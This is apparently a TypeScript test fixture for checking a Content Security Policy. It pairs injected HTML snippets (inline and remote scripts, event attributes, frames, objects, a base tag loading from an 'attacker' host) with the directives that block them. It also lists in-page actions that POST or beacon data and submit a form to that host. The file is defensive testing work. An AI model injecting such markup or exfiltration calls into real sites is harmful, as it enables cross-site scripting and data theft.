import { attacker } from './attacker.ts';

/** Markup as a careless server would let it into a page, and the directive that stops it. */
export const markup: readonly { name: string; html: string; directive: string }[] = [
  {
    name: 'inline script',
    html: "<script>document.title += ' inline-script'</script>",
    directive: 'script-src-elem',
  },
  {
    name: 'event attribute',
    html: `<img src="data:," onerror="document.title += ' event-attribute'">`,
    directive: 'script-src-attr',
  },
  {
    name: 'remote script',
    html: `<script src="${attacker}/script.js"></script>`,
    directive: 'script-src-elem',
  },
  { name: 'remote picture', html: `<img src="${attacker}/picture.png">`, directive: 'img-src' },
  {
    name: 'remote style sheet',
    html: `<link rel="stylesheet" href="${attacker}/style.css">`,
    directive: 'style-src-elem',
  },
  {
    name: 'inline style sheet',
    html: `<style>@import url("${attacker}/imported.css")</style>`,
    directive: 'style-src-elem',
  },
  { name: 'frame', html: `<iframe src="${attacker}/frame"></iframe>`, directive: 'frame-src' },
  {
    name: 'object',
    html: `<object data="${attacker}/object" type="text/html"></object>`,
    directive: 'object-src',
  },
  { name: 'base', html: `<base href="${attacker}/base/">`, directive: 'base-uri' },
];

/** What a script that got in after all would try. Run in the page. */
export const actions: readonly { name: string; run: (to: string) => unknown; directive: string }[] =
  [
    {
      name: 'fetch',
      run: (to) => fetch(`${to}/fetch`, { method: 'POST', body: 'key' }).catch(() => {}),
      directive: 'connect-src',
    },
    {
      name: 'beacon',
      run: (to) => navigator.sendBeacon(`${to}/beacon`, 'key'),
      directive: 'connect-src',
    },
    {
      name: 'HTML from text',
      run: () => {
        try {
          document.createElement('div').innerHTML = '<img src="data:," onerror="alert()">';
        } catch {
          return;
        }
        document.title += ' html-from-text';
      },
      directive: 'require-trusted-types-for',
    },
    {
      name: 'worker from text',
      run: () => {
        try {
          new Worker(URL.createObjectURL(new Blob([''])));
        } catch {
          return;
        }
        document.title += ' worker-from-text';
      },
      directive: 'require-trusted-types-for',
    },
  ];

/**
 * Comes last, since a form that gets through leads away from the page. By itself, as it may throw, and as nothing
 * answers from a page that was left.
 */
export function submitForm(to: string): void {
  const form = document.createElement('form');
  form.action = `${to}/form`;
  document.body.append(form);
  setTimeout(() => form.submit());
}
